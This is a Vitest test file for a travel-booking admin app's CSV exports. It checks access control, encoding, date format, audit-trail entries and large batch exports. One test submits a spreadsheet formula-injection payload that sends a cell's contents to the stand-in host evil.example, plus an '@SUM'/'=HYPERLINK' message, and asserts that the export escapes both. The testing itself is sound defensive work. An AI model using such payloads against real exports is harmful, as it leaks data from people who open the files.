import { expect, test } from 'vitest'
import { createDatabase } from '@db/client'
import { adminOnlyFiles } from '../../testing/admin-pages'
import { call, signIn } from '../../testing/api'
import { describeOnBothDatabases } from '../../testing/backends'
import { parseCsv } from '../../testing/csv'
import { contactMessageInput, countryInquiryInput } from '../../testing/inquiries'
import { leadOf } from '../../testing/leads'
import { addStaff } from '../../testing/staff'

// Exports (docs/product.md, "Exports"): the lead inbox and each inquiry list as CSV for admins, with the
// page's filters; UTF-8 with a byte-order mark, ISO dates, and what a traveller typed never run as a formula;
// each export on the audit trail without the words searched for.

describeOnBothDatabases('exports', (backend) => {
  async function download(token: string, path: string) {
    const answer = await fetch(`${backend().url}${path}`, {
      headers: { cookie: `tembo_session=${token}` },
      redirect: 'manual',
    })
    const bytes = new Uint8Array(await answer.arrayBuffer())
    return { answer, bytes, rows: answer.status === 200 ? parseCsv(new TextDecoder().decode(bytes)) : [] }
  }

  test('an admin downloads what the page shows, as a spreadsheet reads it; an agent is refused', async () => {
    const { url, database, token } = backend()
    const tag = `x${Date.now().toString(36)}`
    const hostile = `=HYPERLINK("https://evil.example/?"&A1,"Zoë ${tag}")`
    const sent = await call<{ id: number }>(url, '/api/bookings/message', {
      json: contactMessageInput({
        name: hostile,
        email: `zoe.${tag}@example.com`,
        message: '@SUM(1+1), then "quotes"\nand a second line;=HYPERLINK(E2)',
      }),
    })
    expect(sent.status).toBe(201)
    const other = await call(url, '/api/bookings/country_book', {
      json: countryInquiryInput({ name: `Björn Ångström ${tag}`, email: `bjorn.${tag}@example.se` }),
    })
    expect(other.status).toBe(201)

    const agentAccount = await addStaff(database.url, 'agent')
    const agent = await signIn(url, agentAccount.email, agentAccount.password)
    for (const path of adminOnlyFiles) expect((await download(agent, path)).answer.status, path).toBe(403)

    const messages = await download(token, `/admin/messages_bookings.csv?q=${tag}`)
    expect(messages.answer.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(messages.answer.headers.get('content-disposition')).toMatch(
      /^attachment; filename="tembo-messages_bookings-\d{4}-\d{2}-\d{2}\.csv"$/,
    )
    expect(messages.answer.headers.get('cache-control')).toBe('private, no-store')
    // UTF-8 with its byte-order mark, so spreadsheet programs read the accents.
    expect([...messages.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    const [header, ...rows] = messages.rows
    expect(header![0]).toBe('Number')
    expect(header).toContain('Received')
    expect(rows).toHaveLength(1)
    const cell = (row: string[], name: string) => row[header!.indexOf(name)]
    expect(cell(rows[0]!, 'Number')).toBe(String(sent.body.id))
    // Formulas come out as text; the rest exactly as typed; dates in ISO.
    expect(cell(rows[0]!, 'Name')).toBe(`'${hostile}`)
    // A formula after a ";" too, where Excel in German or French settings splits the cell.
    expect(cell(rows[0]!, 'Message')).toBe(`'@SUM(1+1), then "quotes"\nand a second line;'=HYPERLINK(E2)`)
    // Every cell is quoted, so no setting splits one.
    const text = new TextDecoder().decode(messages.bytes)
    expect(text.split('\r\n')[1]).toMatch(new RegExp(`^"${sent.body.id}","`))
    expect(cell(rows[0]!, 'Email')).toBe(`zoe.${tag}@example.com`)
    expect(cell(rows[0]!, 'Received')).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/)

    // The leads with the inbox's filters: the search finds both travellers, a status none.
    const leads = await download(token, `/admin/leads.csv?q=${tag}&sort=travel`)
    const [leadHeader, ...leadRows] = leads.rows
    expect(leadRows.map((row) => row[leadHeader!.indexOf('Name')]).sort()).toEqual(
      [`'${hostile}`, `Björn Ångström ${tag}`].sort(),
    )
    const handle = createDatabase(database.url)
    const lead = await leadOf(handle, 'message', sent.body.id)
    await handle.db.destroy()
    const zoe = leadRows.find((row) => row[leadHeader!.indexOf('Email')] === `zoe.${tag}@example.com`)!
    expect(zoe[leadHeader!.indexOf('Reference')]).toBe(lead.reference)
    expect(zoe[leadHeader!.indexOf('Status')]).toBe('New')
    expect((await download(token, `/admin/leads.csv?q=${tag}&status=lost`)).rows).toHaveLength(1)

    // On the trail, with the filters but not the words searched for.
    const trail = await createDatabase(database.url)
      .db.selectFrom('audit_log')
      .selectAll()
      .where('action', '=', 'export')
      .orderBy('id')
      .execute()
    expect(trail.map((entry) => entry.subject)).toEqual([
      'Messages (a search)',
      'Leads (a search)',
      'Leads (status: lost; a search)',
    ])
    expect(JSON.stringify(trail)).not.toContain(tag)
  })

  test('a long export arrives whole and in order, batch after batch', async () => {
    const { database, token } = backend()
    const handle = createDatabase(database.url)
    const tag = `long${Date.now().toString(36)}`
    const count = 1_234
    const at = new Date().toISOString()
    for (let start = 0; start < count; start += 200)
      await handle.db
        .insertInto('messages')
        .values(
          Array.from({ length: Math.min(200, count - start) }, (_, i) => ({
            name: `Walker ${start + i} ${tag}`,
            email: `walker${start + i}.${tag}@example.com`,
            message: 'Which month for the migration river crossings?',
            created_at: at,
          })),
        )
        .execute()
    await handle.db.destroy()
    const { rows } = await download(token, `/admin/messages_bookings.csv?q=${tag}`)
    const [header, ...body] = rows
    expect(body).toHaveLength(count)
    const names = body.map((row) => row[header!.indexOf('Name')])
    // Newest first: the last inserted leads.
    expect(names[0]).toBe(`Walker ${count - 1} ${tag}`)
    expect(names.at(-1)).toBe(`Walker 0 ${tag}`)
    expect(new Set(names).size).toBe(count)
  })
})
